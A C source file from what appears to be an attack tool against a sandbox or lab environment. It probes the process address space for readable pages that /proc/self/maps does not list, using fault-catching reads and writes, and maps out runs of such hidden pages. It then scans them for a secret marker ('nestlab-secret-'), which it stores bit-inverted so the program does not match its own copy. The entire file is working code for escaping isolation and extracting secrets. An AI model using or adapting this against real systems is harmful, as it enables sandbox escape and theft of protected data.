/* What can be read beside what the kernel says it has mapped. */
#include "attack.h"

const u32 unmapped[UNMAPPED_COUNT] = {0x70000000, 0x70001000, 0x717ff000, 0xa0000000u, 0xb7ffd000u, 0xb8001000u, 0xb9000000u, 0xe0000000u};
const u32 doors[DOORS_COUNT] = {0xb7ffe000u, 0xb7fff000u, 0xb8000000u};

static struct { u32 from, to; } areas[256];
static int area_count = -1;

static u32 hexadecimal(const char **at) {
  u32 value = 0;
  for (;; ++*at) {
    int c = **at, digit = is_digit(c) ? c - '0' : c >= 'a' && c <= 'f' ? c - 'a' + 10 : -1;
    if (digit < 0) return value;
    value = value << 4 | digit;
  }
}

static void read_maps(void) {
  area_count = 0;
  char *text = read_whole("/proc/self/maps");
  if (!text) return;
  for (const char *line = text; *line && area_count < (int)COUNT(areas); line = strchr(line, '\n') + 1) {
    areas[area_count].from = hexadecimal(&line);
    line++;
    areas[area_count++].to = hexadecimal(&line);
  }
}

bool listed(u32 page) {
  for (int n = 0; n < area_count; n++) if (page >= areas[n].from && page < areas[n].to) return true;
  return false;
}

static void look(u32 at) { (void)*(volatile u8 *)at; }
static void same(u32 at) { volatile u8 *p = (u8 *)at; *p = *p; }
bool readable(u32 page) { return attempt(look, page).signal == 0; }
static bool writable(u32 page) { return attempt(same, page).signal == 0; }

static bool known(struct run *runs, int count, u32 page) {
  for (int n = 0; n < count; n++) if (page >= runs[n].from && page - 1 < runs[n].to - 1) return true;
  return false;
}

/* The run of pages of one kind around this one. */
static struct run around(u32 page, int most) {
  struct run r = {page, page + PAGE, writable(page)};
  while (most-- && r.from && !listed(r.from - PAGE) && readable(r.from - PAGE) && writable(r.from - PAGE) == r.writable) r.from -= PAGE;
  while (most-- && r.to && !listed(r.to) && readable(r.to) && writable(r.to) == r.writable) r.to += PAGE;
  return r;
}

static const struct { u32 from, pages, step; } samples[] = {
  {0, 16, PAGE}, {0x70000000, 64, PAGE}, {0xbfff0000u, 16, PAGE}, {0x6fff0000u, 16, PAGE}, {0xb7ff8000u, 16, PAGE}, {0xc0000000u, 16, PAGE}, {0xfffe0000u, 32, PAGE},
  {0, 512, 2048 * PAGE},
};

int strangers(struct run *runs, int most) {
  int count = 0;
  read_maps();
  for (u32 s = 0; s < COUNT(samples); s++) for (u32 n = 0; n < samples[s].pages; n++) {
    u32 page = samples[s].from + n * samples[s].step;
    /* Where the stack would grow, a look makes it grow. */
    if ((page & 0x0fffffff) >= 0x0f000000u && (page & 0x0fffffff) < 0x0fff0000u && (page >> 28 == 0xb || page >> 28 == 6)) continue;
    if (count == most || listed(page) || known(runs, count, page) || !readable(page)) continue;
    /* A look may have made a stack grow. */
    read_maps();
    if (listed(page)) continue;
    runs[count++] = around(page, 1 << 18);
    /* What lies beside it may be of another kind. */
    for (u32 next = runs[count - 1].to; count < most && next && !listed(next) && !known(runs, count, next) && readable(next); next = runs[count - 1].to) runs[count++] = around(next, 1 << 18);
  }
  for (int i = 1; i < count; i++) for (int k = i; k > 0 && runs[k].from < runs[k - 1].from; k--) {
    struct run r = runs[k]; runs[k] = runs[k - 1]; runs[k - 1] = r;
  }
  return count;
}

/* "nestlab-secret-" with every bit turned, so that this program does not find itself. */
static const u8 mark[] = {0x91, 0x9a, 0x8c, 0x8b, 0x93, 0x9e, 0x9d, 0xd2, 0x8c, 0x9a, 0x9c, 0x8d, 0x9a, 0x8b, 0xd2};

u32 hunt(u32 from, u32 to) {
  u8 first = ~mark[0];
  for (u32 at = from; at < to - 24; at++) {
    if (*(u8 *)at != first) continue;
    u32 n = 1;
    while (n < sizeof mark && *(u8 *)(at + n) == (u8)~mark[n]) n++;
    if (n < sizeof mark || !is_digit(*(char *)(at + n))) continue;
    return at;
  }
  return 0;
}
